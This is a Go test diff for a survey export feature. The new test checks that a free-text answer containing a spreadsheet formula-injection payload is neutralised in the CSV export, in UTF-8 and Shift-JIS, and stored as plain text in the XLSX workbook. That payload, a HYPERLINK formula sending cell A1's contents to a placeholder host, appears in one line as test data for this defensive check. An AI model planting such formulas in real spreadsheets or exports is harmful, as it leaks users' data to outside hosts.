@@ -156,3 +156,85 @@ func TestExportCSV(t *testing.T) {
 		}
 	})
 }
+
+// A free-text answer that a spreadsheet would run as a formula reaches the
+// CSV behind an apostrophe, in both encodings, and the workbook as text
+// (an inline string, never a formula cell).
+func TestExportDefusesFormulaAnswers(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, db *store.DB) {
+		ctx := context.Background()
+		svc, fx := seeded(t, db)
+		info, err := svc.Latest(ctx, "ticket_entry")
+		if err != nil {
+			t.Fatal(err)
+		}
+		attack := `=HYPERLINK("http://example.invalid/?"&A1,"詳細")`
+		r, err := svc.Start(ctx, info.Ref, survey.Subject{MonitorID: "M-0002", TrialID: &fx.trialID, Step: "entry"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, a := range [][2]string{{"convenience", "4"}, {"comment", attack}} {
+			if err := svc.SaveAnswer(ctx, r.ID, a[0], a[1]); err != nil {
+				t.Fatal(err)
+			}
+		}
+		opt := survey.ExportOptions{Filter: survey.Filter{TrialID: &fx.trialID}, Location: time.UTC}
+		for _, enc := range []string{"", "sjis"} {
+			opt.Encoding = enc
+			b := exportCSV(t, svc, opt)
+			if enc == "sjis" {
+				if b, err = japanese.ShiftJIS.NewDecoder().Bytes(b); err != nil {
+					t.Fatal(err)
+				}
+			} else {
+				b = bytes.TrimPrefix(b, []byte("\xEF\xBB\xBF"))
+			}
+			recs := readCSV(t, b)
+			comment := -1
+			for i, h := range recs[0] {
+				if h == "comment" {
+					comment = i
+				}
+			}
+			found := false
+			for _, rec := range recs[1:] {
+				if rec[0] == fmt.Sprint(r.ID) {
+					found = true
+					if got := rec[comment]; got != "'"+attack {
+						t.Errorf("%q CSV: comment %q, want it behind an apostrophe", enc, got)
+					}
+				}
+				for j, f := range rec {
+					if f != "" && strings.ContainsRune("=+@", rune(f[0])) {
+						t.Errorf("%q CSV: %s = %q starts a formula", enc, recs[0][j], f)
+					}
+				}
+			}
+			if !found {
+				t.Fatalf("%q CSV: response %d missing", enc, r.ID)
+			}
+		}
+		opt.Encoding = ""
+		_, x := export(t, svc, opt)
+		rows, err := x.GetRows("Data")
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, row := range rows {
+			for j, v := range row {
+				if v != attack {
+					continue
+				}
+				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
+				if f, err := x.GetCellFormula("Data", cell); err != nil || f != "" {
+					t.Fatalf("Data %s is a formula %q (%v)", cell, f, err)
+				}
+				if typ, err := x.GetCellType("Data", cell); err != nil || typ != excelize.CellTypeInlineString {
+					t.Fatalf("Data %s has type %v (%v), want an inline string", cell, typ, err)
+				}
+				return
+			}
+		}
+		t.Fatal("the answer is not on the Data sheet as typed")
+	})
+}
